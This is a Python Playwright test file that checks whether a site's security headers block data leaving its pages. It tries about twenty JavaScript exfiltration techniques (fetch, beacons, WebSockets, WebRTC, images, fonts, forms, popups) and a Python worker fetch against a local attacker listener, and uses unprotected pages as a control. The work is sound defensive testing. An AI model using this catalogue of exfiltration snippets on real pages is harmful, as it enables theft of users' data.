"""Nothing leaves the page: every way out is tried, with an attacker listening on another port.

The same attempts against the same site served without its headers do arrive, so this test can fail. Python,
which would take most of the time, is on the pages alone on which it tries itself.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Error, Page
from tests.browser.attacker import Attacker
from tests.browser.faults import FaultyServer
from tests.browser.visiting import READY, open_harness

from wardian_build import serve


def element(tag: str, **properties: str) -> str:
    """JavaScript that adds an element to the page."""
    return f"document.body.append(Object.assign(document.createElement({tag!r}), {properties}))"


#: JavaScript that tries to tell URL a secret, and leaves the page as it is: all are tried on one page.
STAYING = {
    "fetch": "fetch('URL', { mode: 'no-cors' })",
    "xhr": "(() => { const request = new XMLHttpRequest(); request.open('GET', 'URL'); request.send(); })()",
    "beacon": "navigator.sendBeacon('URL', 'secret')",
    "event-source": "new EventSource('URL')",
    "websocket": "new WebSocket('URL'.replace('http', 'ws'))",
    # The page removes the interface; `kept` is what another script could have saved before.
    "webrtc": """(async () => {
        const peer = new window.kept({ iceServers: [{ urls: 'stun:127.0.0.1:UDP' }] });
        peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer()); })()""",
    "image": element("img", src="URL"),
    "style": """document.body.append(Object.assign(document.createElement('p'), { textContent: 'x' }));
        document.body.lastChild.style.backgroundImage = 'url(URL)'""",
    "font": "new FontFace('x', 'url(URL)').load()",
    "video": element("video", src="URL", preload="auto"),
    "object": element("object", data="URL"),
    "script": element("script", src="URL"),
    "style-sheet": element("link", rel="stylesheet", href="URL"),
    "prefetch": element("link", rel="prefetch", href="URL"),
    "preconnect": element("link", rel="preconnect", href="URL"),
    "speculation-rules": element(
        "script",
        type="speculationrules",
        textContent='{"prefetch": [{"urls": ["URL"], "eagerness": "immediate"}]}',
    ),
    "ping": "Object.assign(document.createElement('a'), { href: '#', ping: 'URL' }).click()",
    "frame": element("iframe", src="URL"),
}
#: These leave the page, or open another one: each on a page of its own.
LEAVING = {
    "form": """(() => {
        const form = Object.assign(document.createElement('form'), { action: 'URL', method: 'post' });
        document.body.append(form); form.submit(); })()""",
    "navigation": "location.href = 'URL'",
    "meta-refresh": element("meta", httpEquiv="refresh", content="0; url=URL"),
    "popup": "window.open('URL')",
}
#: A hint that a browser may ignore, and headless Chromium does: nothing shows that the header stops it.
UNCERTAIN = {"preconnect"}
ATTEMPTS = [["staying", *STAYING], *([name] for name in LEAVING)]


@pytest.fixture
def attacker() -> Iterator[Attacker]:
    listener = Attacker()
    yield listener
    listener.close()


@pytest.fixture(scope="module")
def sealed_url(site: Path) -> Iterator[str]:
    yield from without_python(site, "strict")


@pytest.fixture(scope="module")
def bare_url(site: Path) -> Iterator[str]:
    yield from without_python(site, "none")


def without_python(site: Path, headers: str) -> Iterator[str]:
    """The site with these headers, and without the script of the Python worker."""
    server, url = serve.start(site, port=0, headers=headers, server_class=FaultyServer)
    assert isinstance(server, FaultyServer)
    [worker] = (site / "app").glob("python_worker-*.js")
    server.meets(f"/app/{worker.name}", always="404")
    yield url
    server.shutdown()
    server.server_close()


def attempt(browser: Browser, url: str, names: list[str], attacker: Attacker) -> list[str]:
    """What arrives when a page tries these ways."""
    context = browser.new_context()
    context.add_init_script("window.kept = window.RTCPeerConnection")
    try:
        page = context.new_page()
        page.goto(url, timeout=READY)
        page.wait_for_selector("article.task", timeout=READY)
        attacker.received(wait=0)
        for name in names:
            if script := {**STAYING, **LEAVING}.get(name):
                target = f"{attacker.url}/{name}?secret"
                try_script(page, script.replace("URL", target).replace("UDP", str(attacker.udp_port)))
        return attacker.received(wait=2.0, enough=len(names))
    finally:
        context.close()


def try_script(page: Page, script: str) -> None:
    try:
        page.evaluate(f"void ({script})" if ";\n" not in script else script)
    except Error:
        # Refused outright, or a navigation that ended the page: also no leak.
        page.wait_for_timeout(100)


@pytest.mark.parametrize("names", ATTEMPTS, ids=[names[0] for names in ATTEMPTS])
def test_nothing_leaves_the_page(
    browser: Browser, sealed_url: str, attacker: Attacker, names: list[str]
) -> None:
    assert attempt(browser, sealed_url, names, attacker) == []


@pytest.mark.parametrize("names", ATTEMPTS, ids=[names[0] for names in ATTEMPTS])
def test_the_same_attempts_succeed_without_the_headers(
    browser: Browser, bare_url: str, attacker: Attacker, names: list[str]
) -> None:
    arrived = " ".join(attempt(browser, bare_url, names, attacker))
    for name in set(names) - UNCERTAIN - {"staying"}:
        assert ("datagram" if name == "webrtc" else f"/{name}?secret") in arrived, name


def test_what_a_content_security_policy_cannot_name_is_removed(page: Page, site_url: str) -> None:
    page.goto(site_url)
    page.wait_for_selector("article.task")
    for name in ("RTCPeerConnection", "webkitRTCPeerConnection", "WebTransport"):
        assert page.evaluate(f"typeof window.{name}") == "undefined"


PYTHON_FETCH = """
from js import fetch
try:
    await fetch("{url}/worker?secret", mode="no-cors")
    outcome = "sent"
except Exception as error:
    outcome = "refused"
outcome
"""


def test_python_in_the_worker_cannot_fetch_elsewhere(
    browser: Browser, harness_url: str, attacker: Attacker
) -> None:
    context = browser.new_context()
    harness = open_harness(context, harness_url)
    outcome = harness.run(PYTHON_FETCH.format(url=attacker.url))
    context.close()
    assert outcome == "refused"
    assert attacker.received() == []


def test_python_in_the_worker_can_without_the_headers(
    browser: Browser, harness_site: Path, attacker: Attacker
) -> None:
    server, url = serve.start(harness_site, port=0, headers="none")
    context = browser.new_context()
    harness = open_harness(context, url)
    outcome = harness.run(PYTHON_FETCH.format(url=attacker.url))
    context.close()
    server.shutdown()
    assert outcome == "sent"
    assert attacker.received() != []
